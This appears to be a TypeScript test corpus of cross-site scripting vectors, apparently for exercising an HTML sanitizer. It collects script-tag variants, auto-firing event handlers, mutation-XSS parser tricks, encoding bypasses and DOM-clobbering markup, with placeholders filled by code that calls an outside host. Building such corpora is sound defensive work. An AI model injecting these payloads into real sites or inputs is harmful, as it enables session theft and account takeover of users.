import { act, attribute, family, type Vector } from "./hostile-vector.ts"

const script = (template: string) => template

const scripts: readonly string[] = [
  "<script>ACT</script>", "<SCRIPT>ACT</SCRIPT>", "<script/x>ACT</script>", "<script\n>ACT</script\n>", "<script src=OUT/s.js></script>", '<script src="//OUTHOST/s.js"></script>', "<script type=module>ACT</script>", "<script async defer>ACT</script>", "<script type=text/javascript>//<![CDATA[\nACT\n//]]></script>",
  "<scr<script>ipt>ACT</scr</script>ipt>", "<<script>ACT//<</script>", "<script>/*</title>*/ACT</script>", "<script language=vbscript>ACT</script>", "<script nonce=x>ACT</script>", "<script\0>ACT</script>", "<\0script>ACT</script>", "<script xlink:href=OUT/s.js></script>", "<noscript><script>ACT</script></noscript>",
  "<template><script>ACT</script></template>", '<div><template shadowrootmode="open"><script>ACT</script></template></div>', "<xss><script>ACT</script></xss>", "<script>ACT</script >", "<script>ACT</script/>", "<sCrIpT>ACT</ScRiPt>", "&lt;script&gt;ACT&lt;/script&gt;", "<table><script>ACT</script></table>", "<select><script>ACT</script></select>",
]

/** Each event with an element on which it would come by itself, or at a touch. */
const handlers: readonly (readonly [string, string])[] = [
  ["img src=x", "onerror"], ["img src=data:,", "onerror"], ["image src=x", "onerror"], ["img/src=x/", "onerror"], ["body", "onload"], ["body", "onpageshow"], ["body", "onresize"], ["body", "onhashchange"], ["body", "onbeforeunload"], ["frameset", "onload"], ["iframe src=about:blank", "onload"], ["object data=x", "onerror"], ["embed src=x", "onload"],
  ["link rel=stylesheet href=x", "onerror"], ["style", "onload"], ["svg", "onload"], ["svg", "onfocusin"], ["math", "onclick"], ["video src=x", "onerror"], ["video><source src=x", "onerror"], ["audio src=x", "onerror"], ["audio src=x", "onloadstart"], ["input autofocus", "onfocus"], ["input autofocus", "onblur"], ["textarea autofocus", "onfocus"],
  ["select autofocus", "onfocus"], ["button autofocus", "onfocus"], ["a href=#x autofocus tabindex=1", "onfocus"], ["div contenteditable autofocus tabindex=1", "onfocus"], ["details open", "ontoggle"], ["marquee", "onstart"], ["marquee loop=1 width=0", "onfinish"], ["meter value=1", "onmouseover"], ["p style=animation:x", "onanimationstart"], ["p style=transition:1s", "ontransitionend"],
  ["div style=overflow:scroll", "onscroll"], ["dialog open", "onclose"], ["form", "onsubmit"], ["input type=image src=x", "onerror"], ["isindex type=image src=x", "onerror"], ["p", "onpointerrawupdate"], ["p", "onmouseenter"], ["p", "oncopy"], ["p", "onwheel"], ["p popover", "onbeforetoggle"], ["keygen autofocus", "onfocus"], ["bgsound src=x", "onpropertychange"], ["x", "onContentVisibilityAutoStateChange"], ["p", "on\u0000click"],
]

const mutations: readonly string[] = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ACT&gt;"></table></mtext></math>', '<svg></p><style><a id="</style><img src=1 onerror=ACT>">', '<noscript><p title="</noscript><img src=x onerror=ACT>"></noscript>', "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=ACT src>\"></form></math>",
  "<svg><style>{font-family:'<iframe/onload=ACT>'}</style></svg>", "<math><annotation-xml encoding='text/html'><style><img src=x onerror=ACT></style></annotation-xml></math>", "<textarea><img title='</textarea><img src=x onerror=ACT>'></textarea>", "<title><img title='</title><img src=x onerror=ACT>'></title>", "<xmp><p title='</xmp><img src=x onerror=ACT>'></xmp>", "<noembed><p title='</noembed><img src=x onerror=ACT>'></noembed>",
  "<noframes><p title='</noframes><img src=x onerror=ACT>'></noframes>", "<iframe><p title='</iframe><img src=x onerror=ACT>'></iframe>", "<style><p title='</style><img src=x onerror=ACT>'></style>", "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=ACT>'></a></template></select>", "<table><td><svg><desc><table><td><img src=x onerror=ACT></td></table></desc></svg></td></table>",
  "<p id='\"><img src=x onerror=ACT>'>x</p>", "<a title='`<img src=x onerror=ACT>`'>x</a>", "<b <script>ACT</script>0", "<img \"\"\"><script>ACT</script>\">", "<svg><![CDATA[><img src=x onerror=ACT>]]></svg>", "<option><style></option></select><img src=x onerror=ACT></style></option>", "<listing>&lt;img src=x onerror=ACT&gt;</listing>", "<math><mi//xlink:href=\"data:x,<script>ACT</script>\"></math>",
]

const encodings: readonly string[] = [
  "<![CDATA[<script>ACT</script>]]>", "<!--[if gte IE 4]><script>ACT</script><![endif]-->", "<!--><script>ACT</script>-->", "<!---><img src=x onerror=ACT>-->", "<!--!><img src=x onerror=ACT>-->", "<!-- --!><img src=x onerror=ACT>-->", "<?xml version='1.0'?><script>ACT</script>", "<?php echo '<script>ACT</script>'?>", "<!DOCTYPE x [<!ENTITY y '<script>ACT</script>'>]>&y;", "<%<img src=x onerror=ACT>%>",
  "+ADw-script+AD4-ACT+ADw-/script+AD4-", "\ufeff<script>ACT</script>", "<script\u2028>ACT</script>", "\u00bcscript\u00beACT\u00bc/script\u00be", "%3Cscript%3EACT%3C/script%3E", "&#x3c;script&#x3e;ACT&#x3c;/script&#x3e;", "<\u0160cript>ACT</\u0160cript>", "<ſcript>ACT</ſcript>", "<img src=x o\u00adnerror=ACT>", "<img src=x on\nerror=ACT>", "<img src=x onerror\u000b=ACT>", "<img src=x\u00a0onerror=ACT>", "<x\fonclick=ACT>x</x>",
]

const clobbering: readonly string[] = [
  "<form id=owned><input name=title></form>", "<img name=getElementById>", "<a id=location href=OUT/clobber></a>", "<form name=body><input id=appendChild></form>", "<iframe name=top srcdoc=x></iframe>", "<a id=app href=OUT/clobber>x</a>", "<img id=document name=cookie>", "<form id=f><output name=attributes></output></form>", "<object name=self data=OUT/clobber></object>", "<a id=x name=x href=OUT/x>x</a><a id=x name=y href=OUT/y>y</a>", "<embed name=parent src=OUT/clobber>",
]

const fill = (text: string, outside: string, name: string) => text.replaceAll("ACT", text.includes("onerror=") || text.includes("onload=") ? attribute(outside, name) : act(outside, name)).replaceAll("OUTHOST", new URL(outside).host).replaceAll("OUT", outside)

/** Everything that wants to run. */
export const scriptVectors: readonly Vector[] = [
  ...family("script", scripts.map(script), fill, true),
  ...family("handler", handlers, ([element, event], outside, name) => `<${element} ${event}="${attribute(outside, name)}">x</${element.split(/[ />]/)[0]}>`),
  ...family("mutation", mutations, fill, false),
  ...family("encoding", encodings, fill, false),
  ...family("clobbering", clobbering, fill),
]
